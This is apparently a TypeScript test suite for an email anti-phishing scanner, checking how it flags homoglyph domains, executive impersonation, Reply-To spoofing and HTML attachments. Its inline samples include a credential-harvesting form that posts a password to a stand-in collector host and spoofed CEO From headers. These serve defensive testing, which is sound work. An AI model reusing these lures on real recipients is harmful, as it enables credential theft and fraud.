/**
 * The anti-phishing module end to end: real .eml files (test/antiphishing/eml/) through the real message model
 * and scanner, with the test organisation's settings and an in-memory phishing URL database. Each phishing case
 * must reach `phishing` through the signals it is about; each honest look-alike must stay `clean`.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { createAntiphishingScanner } from '../../src/scan/antiphishing/scanner.ts';
import { EML_DIR, orgScanner, scanEml, scanRaw, signalIds, testUrlDb } from './helpers.ts';

/** Every .eml case and the signals that must be among those that fired. */
const PHISHING: Record<string, string[]> = {
  'phish-homoglyph-cyrillic-link.eml': ['HOMOGLYPH_DOMAIN_LINK'],
  'phish-punycode-text-link.eml': ['HOMOGLYPH_DOMAIN_LINK'],
  'phish-homoglyph-from-domain.eml': ['HOMOGLYPH_DOMAIN_FROM', 'DISPLAY_NAME_BRAND'],
  'phish-digit-link.eml': ['HOMOGLYPH_DOMAIN_LINK'],
  'phish-typo-from-domain.eml': ['TYPO_DOMAIN_FROM', 'DISPLAY_NAME_BRAND'],
  'phish-brand-in-domain.eml': ['BRAND_LURE_DOMAIN_LINK', 'DISPLAY_NAME_BRAND'],
  'phish-ip-href-brand-text.eml': ['LINK_TEXT_PROTECTED_IP_HREF'],
  'phish-html-form-attachment.eml': ['HTML_ATTACHMENT_CREDENTIAL_FORM'],
  'phish-js-redirect-attachment.eml': ['HTML_ATTACHMENT_REDIRECT'],
  'phish-svg-redirect-attachment.eml': ['HTML_ATTACHMENT_REDIRECT'],
  'phish-protected-person-freemail.eml': ['PROTECTED_PERSON_IMPERSONATION'],
  'phish-local-lookalike-bec.eml': ['HOMOGLYPH_DOMAIN_FROM', 'PROTECTED_PERSON_IMPERSONATION'],
  'phish-reply-to-freemail.eml': ['REPLY_TO_FREEMAIL', 'DISPLAY_NAME_BRAND'],
  'phish-display-name-brand-address.eml': ['DISPLAY_NAME_PROTECTED_DOMAIN', 'LINK_TEXT_PROTECTED_MISMATCH'],
  'phish-db-hit.eml': ['URL_DB_PHISHING'],
};

const CLEAN = [
  'clean-paypal-notification.eml', 'clean-amazon-shipment.eml', 'clean-linkedin-notification.eml',
  'clean-newsletter-tracker.eml', 'clean-partner-resembles-short-brand.eml', 'clean-shared-first-name.eml',
  'clean-html-report-attachment.eml', 'clean-internal-protected-person.eml', 'clean-mailing-list-via.eml',
];

test('every .eml case is listed here', () => {
  const files = readdirSync(EML_DIR).filter((f) => f.endsWith('.eml')).sort();
  assert.deepEqual(files, [...Object.keys(PHISHING), ...CLEAN].sort());
});

test('phishing cases: status phishing, with the signals they are about, as detections', async () => {
  const scanner = await orgScanner();
  for (const [file, expected] of Object.entries(PHISHING)) {
    const f = await scanEml(scanner, file);
    const ids = signalIds(f);
    assert.equal(f.status, 'phishing', `${file}: ${f.status} ${JSON.stringify(f.details)}`);
    for (const id of expected) assert.ok(ids.includes(id), `${file}: ${id} missing from ${ids.join(', ')}`);
    assert.ok((f.details!.score as number) >= 10, file);
    // One detection per signal (per part for attachment signals), named by the signal, printable ASCII.
    assert.deepEqual([...new Set(f.detections.map((d) => d.name.split(':')[0]))].sort(), [...ids].sort(), file);
    for (const d of f.detections) {
      assert.equal(d.status, 'phishing');
      assert.equal(d.engine, 'antiphishing');
      assert.match(d.name, /^[A-Z_]+:[\x20-\x7e]{1,120}$/, d.name);
      assert.doesNotMatch(d.name, /[(),;]/, d.name);
    }
  }
});

test('honest look-alikes stay clean, and say why nothing fired', async () => {
  const scanner = await orgScanner();
  for (const file of CLEAN) {
    const f = await scanEml(scanner, file);
    assert.equal(f.status, 'clean', `${file}: ${JSON.stringify(f.details)}`);
    assert.deepEqual(f.detections, [], file);
    assert.ok((f.details!.score as number) < 10, file);
  }
  // The weak signals that did fire are still explained in details.
  const partner = await scanEml(scanner, 'clean-partner-resembles-short-brand.eml');
  assert.deepEqual(signalIds(partner), ['TYPO_DOMAIN_FROM']);
  const news = await scanEml(scanner, 'clean-newsletter-tracker.eml');
  assert.deepEqual(signalIds(news), ['LINK_TEXT_MISMATCH']);
});

test('finding shape: attachment signals name the part; details list signals with weights and evidence', async () => {
  const scanner = await orgScanner();
  const f = await scanEml(scanner, 'phish-html-form-attachment.eml');
  assert.equal(f.module, 'antiphishing');
  assert.deepEqual(f.detections, [{
    status: 'phishing', engine: 'antiphishing', part: '1.2',
    name: 'HTML_ATTACHMENT_CREDENTIAL_FORM:INV-0923.html',
  }]);
  assert.deepEqual(f.details, {
    score: 10, threshold: 10, htmlAttachments: 1,
    signals: [{
      id: 'HTML_ATTACHMENT_CREDENTIAL_FORM', weight: 10, parts: ['1.2'],
      description: 'An HTML or SVG attachment asks for a password and sends it to a web site',
      evidence: ['INV-0923.html: password field, form posts to collector.badsite.example'],
    }],
  });
  // Unicode evidence stays in details; the detection name is ASCII.
  const h = await scanEml(scanner, 'phish-homoglyph-cyrillic-link.eml');
  const sig = (h.details!.signals as { evidence: string[] }[])[0];
  assert.equal(sig.evidence[0], 'xn--pypal-4ve.com (p\u0430ypal.com)~paypal.com: look-alike letters');
  assert.equal(h.detections[0].name, 'HOMOGLYPH_DOMAIN_LINK:xn--pypal-4ve.com~paypal.com');
  const person = await scanEml(scanner, 'phish-protected-person-freemail.eml');
  assert.deepEqual(person.detections.map((d) => d.name), ['PROTECTED_PERSON_IMPERSONATION:Jane Whitfield']);
  const db = await scanEml(scanner, 'phish-db-hit.eml');
  assert.deepEqual(db.detections.map((d) => d.name), ['URL_DB_PHISHING:testsafebrowsing.appspot.com/s/phishing.html']);
});

test('attachments held in temporary files are read too', async () => {
  const scanner = await orgScanner();
  const f = await scanEml(scanner, 'phish-js-redirect-attachment.eml', { maxPartInMemory: 0, maxInMemoryTotal: 0 });
  assert.equal(f.status, 'phishing');
  assert.deepEqual(signalIds(f), ['HTML_ATTACHMENT_REDIRECT']);
});

test('URL database: only the phishing category counts; From domains are looked up; failures give error', async () => {
  const db = testUrlDb();
  const scanner = await orgScanner({}, db);
  const hit = await scanEml(scanner, 'phish-db-hit.eml');
  assert.equal(hit.status, 'phishing');
  assert.match((hit.details!.signals as { evidence: string[] }[])[0].evidence[0], /test: testsafebrowsing\.appspot\.com\/s\/phishing\.html/);
  assert.ok(db.lookups > 0);

  const mail = (link: string, from = 'share@docs-portal.example') => [
    `From: <${from}>`, 'To: anna.berg@northwind.example', 'Subject: s', 'Content-Type: text/plain', '', `See ${link}`, '',
  ].join('\r\n');
  // Malware pages are the links module's business, not a phishing signal.
  const malware = await scanRaw(scanner, mail('http://testsafebrowsing.appspot.com/s/malware.html'));
  assert.equal(malware.status, 'clean');
  // The test page's neighbour is not listed; a listed host matches in any subdomain; the sender domain counts.
  assert.equal((await scanRaw(scanner, mail('http://testsafebrowsing.appspot.com/s/unlisted.html'))).status, 'clean');
  assert.deepEqual(signalIds(await scanRaw(scanner, mail('https://www.bad-login.example/x'))), ['URL_DB_PHISHING']);
  assert.deepEqual(signalIds(await scanRaw(scanner, mail('nothing here', 'alerts@mx.bad-login.example'))), ['URL_DB_PHISHING']);

  // A database that fails: error when nothing else decides, phishing when the rest is enough.
  const broken = await createAntiphishingScanner({ localDomains: ['northwind.example'] }, { urlDb: { lookup() { throw new Error('database not loaded'); } } });
  const e = await scanRaw(broken, mail('https://www.example.org/'));
  assert.equal(e.status, 'error');
  assert.deepEqual(e.details!.errors, ['url database: database not loaded']);
  assert.equal((await scanEml(broken, 'phish-homoglyph-cyrillic-link.eml')).status, 'phishing');
  // Without a database the signal is simply off.
  const none = await createAntiphishingScanner({});
  assert.equal((await scanEml(none, 'phish-db-hit.eml')).status, 'clean');
});

test('options: threshold, weight overrides, unknown signal ids refused, abort honoured', async () => {
  const strict = await orgScanner({ threshold: 20 });
  const typo = await scanEml(strict, 'phish-typo-from-domain.eml');
  assert.equal(typo.status, 'clean');
  assert.equal(typo.details!.threshold, 20);
  const off = await orgScanner({ weights: { HOMOGLYPH_DOMAIN_LINK: 0 } });
  const h = await scanEml(off, 'phish-homoglyph-cyrillic-link.eml');
  assert.equal(h.status, 'clean');
  assert.deepEqual(signalIds(h), []);
  const louder = await orgScanner({ weights: { TYPO_DOMAIN_FROM: 10 } });
  assert.equal((await scanEml(louder, 'clean-partner-resembles-short-brand.eml')).status, 'phishing');
  await assert.rejects(() => createAntiphishingScanner({ weights: { NO_SUCH_SIGNAL: 3 } }), /unknown signal "NO_SUCH_SIGNAL"/);
  await assert.rejects(() => createAntiphishingScanner({ threshold: 0 }));
  await assert.rejects(() => createAntiphishingScanner({ bogus: 1 } as never));
  await assert.rejects(() => createAntiphishingScanner({ brandsPath: '/nonexistent/brands.txt' }), /ENOENT/);

  const scanner = await orgScanner();
  const ac = new AbortController();
  ac.abort(new Error('deadline'));
  const { buildModel } = await import('../../src/scan/model/mime.ts');
  const model = await buildModel(Buffer.from('From: a@b.example\r\n\r\nhi\r\n'), { sender: '', recipients: [], clientIp: '192.0.2.1', helo: 'x', authUser: null });
  await assert.rejects(() => scanner.scan(model, ac.signal), /deadline/);
  await model.dispose();
});

test('protected people: name from outside is impersonation; their own addresses and local mail are not', async () => {
  const scanner = await orgScanner();
  const from = (f: string) => `From: ${f}\r\nTo: anna.berg@northwind.example\r\nSubject: hi\r\n\r\nhello\r\n`;
  const ids = async (f: string) => signalIds(await scanRaw(scanner, from(f)));
  assert.deepEqual(await ids('"Whitfield, Jane" <jane.w.private@outlook.com>'), ['PROTECTED_PERSON_IMPERSONATION']);
  assert.deepEqual(await ids('"J\u0430ne Whitfield (CEO)" <ceo@exec-mail.example>'), ['PROTECTED_PERSON_IMPERSONATION']);
  assert.deepEqual(await ids('=?utf-8?B?SmFuZSBXaGl0ZmllbGQ=?= <jw.office@gmail.com>'), ['PROTECTED_PERSON_IMPERSONATION']);
  assert.deepEqual(await ids('"Jane Whitfield" <jw@northwind.example>'), []);
  assert.deepEqual(await ids('"Jane Whitfield" <assistant@northwind.example>'), []);
  assert.deepEqual(await ids('"Jane Whitfield" <JW@NORTHWIND.EXAMPLE>'), []);
  assert.deepEqual(await ids('"Jane" <jane@gmail.com>'), []);
  assert.deepEqual(await ids('"J. Whitfield" <jwhit@gmail.com>'), []);
  // A free-mail sender faking the mailing-list form is still impersonation.
  assert.deepEqual(await ids('"Jane Whitfield <jane.whitfield@northwind.example> via Board" <board.list@gmail.com>'), ['PROTECTED_PERSON_IMPERSONATION']);
});

test('Reply-To: free-mail from an organisation, look-alike of the From domain; ordinary list Reply-To is nothing', async () => {
  const scanner = await orgScanner();
  const mail = (from: string, replyTo: string) => `From: ${from}\r\nReply-To: ${replyTo}\r\nTo: a@northwind.example\r\nSubject: s\r\n\r\nhi\r\n`;
  const ids = async (from: string, r: string) => signalIds(await scanRaw(scanner, mail(from, r)));
  assert.deepEqual(await ids('billing@fabrikam-supply.example', 'fabrikam.billing@yahoo.co.uk'), ['REPLY_TO_FREEMAIL']);
  assert.deepEqual(await ids('greg@fabrikam-supply.example', 'greg@fabrikam-suply.example'), ['TYPO_DOMAIN_REPLY_TO']);
  assert.deepEqual(await ids('ceo@northwind.example', 'ceo@northwind-corp.example'), ['BRAND_IN_DOMAIN_REPLY_TO']);
  assert.deepEqual(await ids('greg@fabrikam-supply.example', 'list@lists.fabrikam-forum.example'), []);
  assert.deepEqual(await ids('someone@gmail.com', 'other@yahoo.com'), []);
  assert.deepEqual(await ids('greg@fabrikam-supply.example', 'support@fabrikam-supply.example'), []);
});

test('hostile input: huge headers, many links and attachments are bounded and never throw', async () => {
  const scanner = await orgScanner();
  const links = Array.from({ length: 3000 }, (_, i) => `<a href="http://198.51.100.${i % 250}/p${i}">https://www.paypal.com/${i}</a>`).join('\n');
  const raw = [
    `From: "${'Jane '.repeat(2000)}" <${'x'.repeat(300)}@${'a.'.repeat(200)}example>`,
    `Reply-To: ${Array.from({ length: 500 }, (_, i) => `r${i}@gmail.com`).join(', ')}`,
    'To: a@northwind.example', 'Subject: s', 'Content-Type: text/html', '', links, '',
  ].join('\r\n');
  const f = await scanRaw(scanner, raw);
  assert.equal(f.status, 'phishing');
  assert.ok((f.details!.signals as { evidence: string[] }[]).every((s) => s.evidence.length <= 5));
  // Garbage everywhere: still a finding.
  const junk = await scanRaw(scanner, Buffer.from(Array.from({ length: 20_000 }, (_, i) => (i * 7919) % 256)));
  assert.ok(['clean', 'phishing'].includes(junk.status));
});

test('HTML attachments inside archives are examined, and named by their member path', async () => {
  const { makeZip } = await import('../../src/scan/model/test-fixtures.ts');
  const page = '<html><body><form action="https://collect.example/p.php"><input type="password" name="pw"></form></body></html>';
  const zip = makeZip([{ name: 'docs/readme.txt', data: 'Scanned invoice inside.' }, { name: 'docs/Invoice.html', data: page }]);
  const raw = [
    'From: "Accounts" <ar@vendor.example>', 'To: anna.berg@northwind.example', 'Subject: invoice', 'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="z"', '', '--z', 'Content-Type: text/plain', '', 'Invoice attached.', '--z',
    'Content-Type: application/zip; name="invoice.zip"', 'Content-Disposition: attachment; filename="invoice.zip"',
    'Content-Transfer-Encoding: base64', '', zip.toString('base64'), '--z--', '',
  ].join('\r\n');
  const f = await scanRaw(await orgScanner(), raw);
  assert.equal(f.status, 'phishing');
  assert.deepEqual(f.detections, [{ status: 'phishing', engine: 'antiphishing', name: 'HTML_ATTACHMENT_CREDENTIAL_FORM:docs/Invoice.html', part: '1.2/docs/Invoice.html' }]);
});
